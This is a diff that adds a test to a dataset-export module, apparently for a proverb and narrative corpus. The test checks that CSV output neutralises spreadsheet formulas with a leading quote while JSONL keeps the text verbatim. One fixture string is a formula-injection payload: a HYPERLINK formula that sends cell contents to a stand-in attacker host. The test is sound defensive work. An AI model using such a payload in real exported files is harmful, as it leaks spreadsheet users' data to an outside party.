@@ -206,3 +206,20 @@ def test_epic_export_writes_split_files_and_drops_stale_ones(tmp_path):
     assert [path.name for path in result.files] == ["epic.json", "epic_seen_train_pks.json"]
     assert json.loads((tmp_path / "epic_seen_train_pks.json").read_text()) == [f"Q{proverb.pk}N1"]
     assert not (tmp_path / "epic_unseen_test_pks.json").exists()
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_formulas_while_jsonl_keeps_the_text(tmp_path):
+    story = '=HYPERLINK("http://evil.example/?leak="&A1,"click") Raj lost customers.'
+    proverb = "@SUM(1,2) is money"
+    crowd_narrative_create(proverb=proverb_create(proverb), text=story)
+    dataset_export(format="csv", directory=tmp_path / "csv", statistics=False)
+    dataset_export(format="jsonl", directory=tmp_path / "jsonl", statistics=False)
+    with (tmp_path / "csv" / "dataset.csv").open(newline="") as stream:
+        [row] = list(csv.DictReader(stream))
+    assert row["narrative"] == "'" + story
+    assert row["proverb"] == "'" + proverb
+    exact = json.loads((tmp_path / "jsonl" / "dataset.jsonl").read_text())
+    assert (exact["narrative"], exact["proverb"]) == (story, proverb)
+    assert "added single quote" in (tmp_path / "csv" / "README.md").read_text()
+    assert "added single quote" not in (tmp_path / "jsonl" / "README.md").read_text()
